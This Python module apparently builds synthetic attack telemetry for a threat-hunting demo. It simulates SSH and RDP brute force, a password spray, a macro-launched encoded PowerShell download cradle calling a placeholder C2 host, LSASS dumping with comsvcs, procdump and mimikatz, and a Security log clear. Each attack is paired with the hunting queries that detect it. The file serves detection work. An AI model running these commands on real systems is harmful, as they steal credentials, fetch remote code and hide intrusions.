"""The attacks hidden in the demo data: one function per attack, each returning its rows and record.

Two intrusions, told by the rows:

* An outsider at 203.0.113.45 tries SSH passwords on a Linux web server, then brute-forces RDP on
  ``SRV-APP01`` until the weak ``svc-backup`` password works; once in, they dump credentials
  (procdump of lsass, mimikatz) and clear the Security log.
* A phishing document on ``WS-0042`` starts an encoded PowerShell download cradle; the attacker
  then dumps lsass with ``comsvcs.dll, MiniDump``.

Separately, 203.0.113.77 password-sprays the Entra ID tenant. Every attack's record carries the
hunting queries that find it; the background data is built never to match them.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

from watchkeeper.demo import hunts
from watchkeeper.demo.device_events import network_event_row, process_event_row
from watchkeeper.demo.manifest import AttackRecord, Hunt
from watchkeeper.demo.processes import Binary
from watchkeeper.demo.security_events import LOGON_TYPE_NAMES, security_event_row
from watchkeeper.demo.signins import signin_row
from watchkeeper.demo.syslog import syslog_row
from watchkeeper.demo.world import DEMO_END, DOMAIN, DOMAIN_SID, Host, User, World

__all__ = ["ATTACKS", "Injection"]

INTRUDER_IP = "203.0.113.45"
SPRAYER_IP = "203.0.113.77"
C2_IP = "203.0.113.9"
C2_HOST = "cdn.example.net"

_SYSTEM32 = "C:\\Windows\\System32"
_TEMP = "C:\\Windows\\Temp"
_CMD = Binary("cmd.exe", _SYSTEM32)
_POWERSHELL = Binary("powershell.exe", f"{_SYSTEM32}\\WindowsPowerShell\\v1.0")
_WINWORD = Binary("WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16")
_OUTLOOK = Binary("OUTLOOK.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16")


@dataclass
class Injection:
    """An attack's rows per table and its manifest record."""

    record: AttackRecord
    rows: dict[str, list[dict[str, Any]]] = field(default_factory=dict)


@dataclass(frozen=True)
class _Kind:
    """What an attack is, in MITRE ATT&CK terms."""

    id: str
    name: str
    tactics: tuple[str, ...]
    techniques: tuple[str, ...]


_SSH_GUESSING = _Kind("ssh-brute-force", "SSH password guessing", ("CredentialAccess",), ("T1110.001",))
_BRUTE_FORCE = _Kind(
    "brute-force-success",
    "RDP brute force, then success",
    ("CredentialAccess", "InitialAccess"),
    ("T1110", "T1078"),
)
_SPRAY = _Kind("password-spray", "Password spray", ("CredentialAccess",), ("T1110.003",))
_POWERSHELL_KIND = _Kind(
    "encoded-powershell",
    "Encoded PowerShell from a macro document",
    ("Execution", "CommandAndControl"),
    ("T1059.001", "T1027", "T1204.002"),
)
_DUMPING = _Kind("credential-dumping", "LSASS credential dumping", ("CredentialAccess",), ("T1003.001",))
_LOG_CLEAR = _Kind("audit-log-clear", "Security audit log cleared", ("DefenseEvasion",), ("T1070.001",))
# How the sprayer's client looks in SigninLogs: a script, not a browser.
_SPRAY_CLIENT: dict[str, Any] = {
    "app": 5,
    "device": 1,
    "UserAgent": "python-requests/2.31.0",
    "ClientAppUsed": "Other clients",
    "DeviceDetail": "{}",
}


def _injection(
    kind: _Kind,
    tables: dict[str, list[dict[str, Any]]],
    description: str,
    found_by: list[Hunt],
    *,
    hosts: list[str],
    accounts: list[str] | None = None,
    source_ips: list[str] | None = None,
) -> Injection:
    times = [row["TimeGenerated"] for rows in tables.values() for row in rows]
    record = AttackRecord(
        id=kind.id,
        name=kind.name,
        description=description,
        tactics=list(kind.tactics),
        techniques=list(kind.techniques),
        hosts=hosts,
        accounts=accounts or [],
        source_ips=source_ips or [],
        start=min(times),
        end=max(times),
        rows={table: len(rows) for table, rows in tables.items()},
        hunts=found_by,
    )
    return Injection(record, tables)


def _at(world: World, day: int, hour: int, minute: int, second: int = 0) -> datetime:
    """A moment given as a day of December 2025 (the last month of the window that ends on
    ``DEMO_END``), moved with the world's window when it ends elsewhere (by default: today)."""
    return datetime(2025, 12, day, hour, minute, second, tzinfo=UTC) + (world.end - DEMO_END)


def _service_account() -> User:
    return User(
        "svc-backup", "Backup Service", "0f3b6c2e-8d41-4a57-9e0c-5b7a2d9c1e33", f"{DOMAIN_SID}-1099", "", 0
    )


def _phished(world: World) -> tuple[Host, User]:
    host = world.workstations[min(41, len(world.workstations) - 1)]
    return host, world.users[host.owner or 0]


def ssh_brute_force(world: World) -> Injection:
    """Password guessing against SSH on a Linux web server; every attempt fails."""
    host = world.server("lnx-web01")
    names = ("admin", "test", "oracle", "ubuntu", "pi", "postgres", "user", "guest", "git")
    rows = [
        syslog_row(
            host,
            _at(world, 20, 23, 40) + timedelta(seconds=11 * i),
            "authpriv",
            "info",
            "sshd",
            f"Failed password for invalid user {names[i % len(names)]} from {INTRUDER_IP} port {40000 + i} ssh2",
        )
        for i in range(90)
    ]
    hunt = Hunt(hunts.SSH_PASSWORD_GUESSING, {"SourceIP": [INTRUDER_IP], "Computer": [host.name]})
    description = f"90 failed SSH passwords for invalid users from {INTRUDER_IP} against {host.name}."
    return _injection(
        _SSH_GUESSING, {"Syslog": rows}, description, [hunt], hosts=[host.name], source_ips=[INTRUDER_IP]
    )


def brute_force_then_success(world: World) -> Injection:
    """60 failed logons from one address, then a successful RDP logon from the same address."""
    host, victim = world.server("SRV-APP01"), _service_account()
    guesses = ("administrator", "admin", "svc-backup", "backup", "svc-sql")
    failure = {"Status": "0xc000006d", "SubStatus": "0xc000006a", "FailureReason": "%%2313"}
    rows = [
        security_event_row(
            host,
            4625,
            _at(world, 21, 2, 10) + timedelta(seconds=14 * i),
            **_logon(guesses[i % len(guesses)], 3, **failure),
        )
        for i in range(60)
    ]
    rows.append(
        security_event_row(
            host, 4624, _at(world, 21, 2, 25, 13), **_logon(victim.sam, 10, TargetUserSid=victim.sid)
        )
    )
    expect = {"IpAddress": [INTRUDER_IP], "Computer": [host.fqdn], "Account": [victim.account]}
    description = (
        f"60 failed logons (4625) on {host.name} from {INTRUDER_IP}, then an RDP logon (4624, type 10) "
        f"as {victim.account} from the same address."
    )
    return _injection(
        _BRUTE_FORCE,
        {"SecurityEvent": rows},
        description,
        [Hunt(hunts.BRUTE_FORCE_THEN_SUCCESS, expect)],
        hosts=[host.fqdn],
        accounts=[victim.account],
        source_ips=[INTRUDER_IP],
    )


def _logon(account: str, logon_type: int, **columns: Any) -> dict[str, Any]:
    network = logon_type == 3
    return {
        "Account": f"{DOMAIN}\\{account}",
        "AccountType": "User",
        "TargetAccount": f"{DOMAIN}\\{account}",
        "TargetUserName": account,
        "TargetDomainName": DOMAIN,
        "LogonType": logon_type,
        "LogonTypeName": LOGON_TYPE_NAMES[logon_type],
        "IpAddress": INTRUDER_IP,
        "IpPort": "0",
        "WorkstationName": "kali",
        "LogonProcessName": "NtLmSsp" if network else "User32",
        "AuthenticationPackageName": "NTLM" if network else "Negotiate",
        **columns,
    }


def password_spray(world: World) -> Injection:
    """One address tries one password against 150 accounts within the hour; one account falls."""
    rng = world.rng("attack:password-spray")
    chosen = rng.choice(len(world.users), size=min(150, len(world.users)), replace=False)
    targets = [world.users[int(i)] for i in chosen]
    start = _at(world, 14, 3, 5)
    rows = [
        signin_row(user, start + timedelta(seconds=19 * i), SPRAYER_IP, result="50126", **_SPRAY_CLIENT)
        for i, user in enumerate(targets)
    ]
    fallen = targets[-1]
    rows.append(signin_row(fallen, _at(world, 14, 3, 53, 40), SPRAYER_IP, **_SPRAY_CLIENT))
    description = (
        f"{len(targets)} accounts tried from {SPRAYER_IP} with ResultType 50126 in under an hour; "
        f"{fallen.upn} then signs in successfully from the same address."
    )
    hunt = Hunt(hunts.PASSWORD_SPRAY, {"IPAddress": [SPRAYER_IP]})
    return _injection(
        _SPRAY,
        {"SigninLogs": rows},
        description,
        [hunt],
        hosts=[],
        accounts=[fallen.upn],
        source_ips=[SPRAYER_IP],
    )


def encoded_powershell(world: World) -> Injection:
    """A macro document starts ``powershell -enc`` with a download cradle, which calls home."""
    host, user = _phished(world)
    script = f"IEX (New-Object Net.WebClient).DownloadString('https://{C2_HOST}/a.ps1')"
    command = f"powershell.exe -nop -w hidden -enc {base64.b64encode(script.encode('utf-16-le')).decode()}"
    document = f'"{_WINWORD.path}" /n "C:\\Users\\{user.sam}\\Downloads\\Invoice-2025-1187.docm"'
    opened, started = _at(world, 27, 10, 13, 40), _at(world, 27, 10, 14, 7)
    tables = {
        "DeviceProcessEvents": [
            process_event_row(host, user, opened, _WINWORD, document, _OUTLOOK, f'"{_OUTLOOK.path}"'),
            process_event_row(host, user, started, _POWERSHELL, command, _WINWORD, document),
        ],
        "SecurityEvent": [_process_creation(host, user, started, _POWERSHELL, command, _WINWORD)],
        "DeviceNetworkEvents": [
            network_event_row(
                host, user, started + timedelta(seconds=2), _POWERSHELL, command, C2_IP, 443, C2_HOST
            )
        ],
    }
    found_by = [
        Hunt(hunts.ENCODED_POWERSHELL_MDE, {"DeviceName": [host.fqdn.lower()]}),
        Hunt(hunts.ENCODED_POWERSHELL_4688, {"Computer": [host.fqdn]}),
    ]
    description = (
        f"WINWORD.EXE on {host.name} starts powershell.exe -enc (a download cradle for {C2_HOST}), "
        f"which connects to {C2_IP}:443."
    )
    return _injection(
        _POWERSHELL_KIND,
        tables,
        description,
        found_by,
        hosts=[host.fqdn],
        accounts=[user.account],
        source_ips=[C2_IP],
    )


def credential_dumping(world: World) -> Injection:
    """lsass dumped on both compromised machines: comsvcs MiniDump, procdump, mimikatz."""
    workstation, user = _phished(world)
    server, service = world.server("SRV-APP01"), _service_account()
    steps = [
        _Launch(
            workstation,
            user,
            _at(world, 27, 10, 31, 55),
            Binary("rundll32.exe", _SYSTEM32),
            _POWERSHELL,
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\Users\\Public\\d.dmp full",
        ),
        _Launch(
            server,
            service,
            _at(world, 21, 2, 38, 10),
            Binary("procdump64.exe", _TEMP),
            _CMD,
            f"procdump64.exe -accepteula -ma lsass.exe {_TEMP}\\lsass.dmp",
        ),
        _Launch(
            server,
            service,
            _at(world, 21, 2, 41, 2),
            Binary("mimikatz.exe", _TEMP),
            _CMD,
            'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
        ),
    ]
    tables = {
        "DeviceProcessEvents": [step.process_event() for step in steps],
        "SecurityEvent": [step.security_event() for step in steps],
    }
    devices = sorted([server.fqdn.lower(), workstation.fqdn.lower()])
    found_by = [
        Hunt(hunts.CREDENTIAL_DUMPING_MDE, {"DeviceName": devices}),
        Hunt(hunts.CREDENTIAL_DUMPING_4688, {"Computer": sorted([server.fqdn, workstation.fqdn])}),
    ]
    description = (
        f"rundll32 comsvcs.dll MiniDump on {workstation.name}; procdump -ma lsass.exe and mimikatz "
        f"sekurlsa::logonpasswords on {server.name}."
    )
    return _injection(
        _DUMPING,
        tables,
        description,
        found_by,
        hosts=[server.fqdn, workstation.fqdn],
        accounts=[service.account, user.account],
    )


@dataclass(frozen=True)
class _Launch:
    """An attacker's process start, as Defender for Endpoint and Windows auditing both record it."""

    host: Host
    user: User
    when: datetime
    image: Binary
    parent: Binary
    command: str

    def process_event(self) -> dict[str, Any]:
        return process_event_row(
            self.host, self.user, self.when, self.image, self.command, self.parent, self.parent.name
        )

    def security_event(self) -> dict[str, Any]:
        return _process_creation(self.host, self.user, self.when, self.image, self.command, self.parent)


def audit_log_clear(world: World) -> Injection:
    """``wevtutil cl Security`` on the brute-forced server, and the 1102 event it leaves behind."""
    host, service = world.server("SRV-APP01"), _service_account()
    when, command, wevtutil = (
        _at(world, 21, 2, 52, 30),
        "wevtutil.exe cl Security",
        Binary("wevtutil.exe", _SYSTEM32),
    )
    subject = {
        "Account": service.account,
        "SubjectAccount": service.account,
        "SubjectUserName": service.sam,
        "SubjectDomainName": DOMAIN,
        "SubjectUserSid": service.sid,
    }
    tables = {
        "DeviceProcessEvents": [
            process_event_row(host, service, when, wevtutil, command, _CMD, f'cmd.exe /c "{command}"')
        ],
        "SecurityEvent": [
            _process_creation(host, service, when, wevtutil, command, _CMD),
            security_event_row(
                host,
                1102,
                when + timedelta(seconds=1),
                EventSourceName="Microsoft-Windows-Eventlog",
                **subject,
            ),
        ],
    }
    found_by = [
        Hunt(hunts.AUDIT_LOG_CLEARED, {"Computer": [host.fqdn], "Account": [service.account]}),
        Hunt(hunts.WEVTUTIL_CLEAR_LOG, {"DeviceName": [host.fqdn.lower()]}),
    ]
    description = f"wevtutil cl Security on {host.name}, logged as SecurityEvent 1102 by {service.account}."
    return _injection(
        _LOG_CLEAR, tables, description, found_by, hosts=[host.fqdn], accounts=[service.account]
    )


def _process_creation(
    host: Host, user: User, when: datetime, image: Binary, command: str, parent: Binary
) -> dict[str, Any]:
    """A 4688 (process creation) row, elevated, as the attacker's tools run."""
    return security_event_row(
        host,
        4688,
        when,
        Account=user.account,
        SubjectAccount=user.account,
        SubjectUserName=user.sam,
        SubjectDomainName=DOMAIN,
        SubjectUserSid=user.sid,
        NewProcessName=image.path,
        Process=image.name,
        CommandLine=command,
        ParentProcessName=parent.path,
        TokenElevationType="%%1937",
        MandatoryLabel="S-1-16-12288",
        NewProcessId="0x1f3c",
    )


# In story order. Later issues add attacks (and the rules and incidents that catch them) here.
ATTACKS: tuple[Callable[[World], Injection], ...] = (
    password_spray,
    ssh_brute_force,
    brute_force_then_success,
    credential_dumping,
    audit_log_clear,
    encoded_powershell,
)
